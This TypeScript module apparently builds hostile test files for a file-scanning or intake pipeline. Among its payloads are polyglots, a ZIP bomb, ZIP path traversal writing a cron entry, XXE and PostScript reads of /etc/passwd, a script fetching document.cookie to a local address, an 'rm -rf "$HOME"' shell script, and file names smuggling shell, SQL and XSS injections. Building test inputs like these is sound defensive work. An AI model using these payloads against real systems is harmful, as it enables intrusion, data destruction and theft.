/** Files that are two things at once, things that are none of ours under a name or mark of ours, names, and rubbish. */
import {deflateRawSync} from 'node:zlib';
import type {Random} from '../corpus/random.ts';
import {joined, type Part} from './pdf-writer.ts';
import type {Seed} from './seeds.ts';

const EICAR_LIKE = 'X5O!P%@AP-NOT-A-VIRUS-ONLY-A-STRING';
const SCRIPT = '<script>fetch("http://127.0.0.1:9/"+document.cookie)</script>';

/** A ZIP with one stored or packed file. */
export function zip(name: string, content: Buffer, claimed = content.length): Buffer {
	const packed = deflateRawSync(content, {level: 9});
	const local = Buffer.alloc(30);
	local.write('PK\x03\x04', 'latin1');
	local.writeUInt16LE(8, 8);
	local.writeUInt32LE(packed.length, 18);
	local.writeUInt32LE(claimed >>> 0, 22);
	local.writeUInt16LE(name.length, 26);
	const central = Buffer.alloc(46);
	central.write('PK\x01\x02', 'latin1');
	central.writeUInt16LE(8, 10);
	central.writeUInt32LE(packed.length, 20);
	central.writeUInt32LE(claimed >>> 0, 24);
	central.writeUInt16LE(name.length, 28);
	const end = Buffer.alloc(22);
	end.write('PK\x05\x06', 'latin1');
	end.writeUInt16LE(1, 8);
	end.writeUInt16LE(1, 10);
	end.writeUInt32LE(46 + name.length, 12);
	end.writeUInt32LE(30 + name.length + packed.length, 16);
	return joined(local, name, packed, central, name, end);
}

/** A DICOM object: preamble, mark, and elements as given. */
function dicom(preamble: Part, ...elements: readonly Part[]): Buffer {
	const head = Buffer.alloc(128);
	Buffer.from(preamble as string, 'latin1').copy(head);
	return joined(head, 'DICM', ...elements);
}

const element = (group: number, tag: number, type: string, content: Part, claimed?: number): Buffer => {
	const bytes = joined(content);
	const isLong = ['OB', 'OW', 'SQ', 'UN'].includes(type);
	const head = Buffer.alloc(isLong ? 12 : 8);
	head.writeUInt16LE(group, 0);
	head.writeUInt16LE(tag, 2);
	head.write(type, 4, 'latin1');
	isLong ? head.writeUInt32LE(claimed ?? bytes.length, 8) : head.writeUInt16LE((claimed ?? bytes.length) & 0xff_ff, 6);
	return joined(head, bytes);
};

const FOREIGN: ReadonlyArray<readonly [string, () => Buffer]> = [
	['zip', () => zip('a.pdf', Buffer.from('%PDF-1.7\n'))],
	['zip-up', () => zip('../../../../etc/cron.d/x', Buffer.from('* * * * * root true\n'))],
	['zip-bomb', () => zip('zeros', Buffer.alloc(8 * 1024 * 1024), 0xff_ff_ff_ff)],
	['dicom', () => dicom('', element(0x0002, 0x0010, 'UI', '1.2.840.10008.1.2.1\0'), element(0x0010, 0x0010, 'PN', 'Sample^Joan'))],
	[
		'dicom-frames',
		() => dicom('', element(0x0028, 0x0008, 'IS', '65535 '), element(0x7fe0, 0x0010, 'OW', Buffer.alloc(100), 0xff_ff_ff_fe)),
	],
	['dicom-endless', () => dicom('', element(0x0008, 0x1140, 'SQ', '', 0xff_ff_ff_ff))],
	['dicom-program', () => dicom('MZ\x90\0', element(0x0002, 0x0010, 'UI', '1.2'))],
	['program', () => joined('\x7fELF\x02\x01\x01\0', Buffer.alloc(500))],
	['windows-program', () => joined('MZ\x90\0\x03\0', Buffer.alloc(500))],
	['script', () => joined('#!/bin/sh\nrm -rf "$HOME"\n')],
	['page', () => joined(`<!doctype html><title>x</title>${SCRIPT}`)],
	['drawing', () => joined(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="file:///etc/passwd"/>${SCRIPT}</svg>`)],
	[
		'entities',
		() => joined('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">', '<!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>'),
	],
	['postscript', () => joined('%!PS-Adobe-3.0\n(/etc/passwd) (r) file 100 string readstring pop == quit\n')],
	['gif', () => joined('GIF89a', Buffer.from([255, 255, 255, 255, 0xf7, 0, 0]), Buffer.alloc(800))],
	['webp', () => joined('RIFF\xff\xff\xff\x7fWEBPVP8 ', Buffer.alloc(100))],
	['bmp', () => joined('BM', Buffer.alloc(12), Buffer.from([40, 0, 0, 0, 255, 255, 255, 127, 255, 255, 255, 127]), Buffer.alloc(60))],
	['heic', () => joined('\0\0\0\x18ftypheic', Buffer.alloc(100))],
	['office', () => zip('word/document.xml', Buffer.from('<w:document/>'))],
	['string', () => joined(EICAR_LIKE)],
];

const MARKS: ReadonlyArray<readonly [string, Part]> = [
	['pdf', '%PDF-1.7\n'],
	['tif', 'II*\0\x08\0\0\0'],
	['jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
];

/** Sixty: things that are none of ours, under a mark of ours. */
export const posed = (): Seed[] =>
	MARKS.flatMap(([extension, mark]) =>
		FOREIGN.map(([name, bytes]) => ({name: `posed-${name}.${extension}`, bytes: joined(mark, bytes())})),
	);

/** Forty: each of ours before or behind something else. */
export function polyglots(random: Random, seeds: readonly Seed[]): Seed[] {
	return Array.from({length: 40}, (_, index) => {
		const [name, other] = FOREIGN[index % FOREIGN.length]!;
		const {name: seedName, bytes} = random.pick(seeds);
		const {bytes: second} = random.pick(seeds);
		const whole = [joined(bytes, other()), joined(other(), bytes), joined(bytes, second), joined(bytes.subarray(0, 900), other(), second)][
			index % 4
		]!;
		return {name: `both-${name}-${index}-${seedName}`, bytes: whole};
	});
}

const NAMES: readonly string[] = [
	'up..%2f..%2fetc%2fpasswd.pdf',
	'up..\\..\\windows\\system32.pdf',
	'%2e%2e%2f.pdf',
	'a....pdf',
	'-rf.pdf',
	'--help.pdf',
	'-.pdf',
	' leading.pdf',
	'trailing .pdf',
	'dots...pdf',
	'con.pdf',
	'NUL.tif',
	'aux.png',
	'com1.jpg',
	'lpt1.pdf',
	"quote'.pdf",
	'double"quote.pdf',
	'`id`.pdf',
	'$(id).pdf',
	'$HOME.pdf',
	';id;.pdf',
	'&&id.pdf',
	'|id.pdf',
	'>out.pdf',
	'<in.pdf',
	'*.pdf',
	'?.pdf',
	'[a-z].pdf',
	'{a,b}.pdf',
	'~root.pdf',
	'!important.pdf',
	'#.pdf',
	'%s%s%n.pdf',
	'%00.pdf',
	'a\nb.pdf',
	'a\rb.pdf',
	'a\tb.pdf',
	'bell\x07.pdf',
	'escape\x1b[31m.pdf',
	'delete\x7f.pdf',
	'right\u202eto-left.pdf',
	'zero\u200bwidth.pdf',
	'\ufeffmark.pdf',
	'combining\u0301\u0301\u0301.pdf',
	'emoji-\u{1f4e0}.pdf',
	'full\uff0fwidth.pdf',
	'<script>alert(1)<script>.pdf',
	'" onload="alert(1).pdf',
	"' OR 1=1 --.pdf",
	"Robert'); DROP TABLE deliveries;--.pdf",
	'data:text,html.pdf',
	'javascript:alert(1).pdf',
	'http:example.org.pdf',
	'no-extension',
	'wrong.exe',
	'double.pdf.exe',
	'a.pdf.',
	'UPPER.PDF',
];

/** Sixty file names, each on a small whole file. None begins with a dot: such are hidden, and nobody's scan. */
export function named(seeds: readonly Seed[]): Seed[] {
	const long = [`${'n'.repeat(240)}.pdf`, `${'\u00e9'.repeat(120)}.pdf`];
	return [...NAMES, ...long].map((name, index) => ({name, bytes: joined(seeds[index % seeds.length]!.bytes)}));
}

/** Empty, of one byte, and of chance, with and without a mark of ours before it. */
export function rubbish(random: Random, count: number): Seed[] {
	return Array.from({length: count}, (_, index) => {
		const [extension, mark] = random.pick(MARKS);
		const chance = Buffer.from(Array.from({length: random.int(2, 3000)}, () => random.int(0, 255)));
		const bytes =
			index % 10 === 0
				? Buffer.alloc(0)
				: index % 10 === 1
					? Buffer.from([random.int(0, 255)])
					: index % 2 === 0
						? chance
						: joined(mark, chance);
		return {name: `rubbish-${index}.${extension}`, bytes};
	});
}
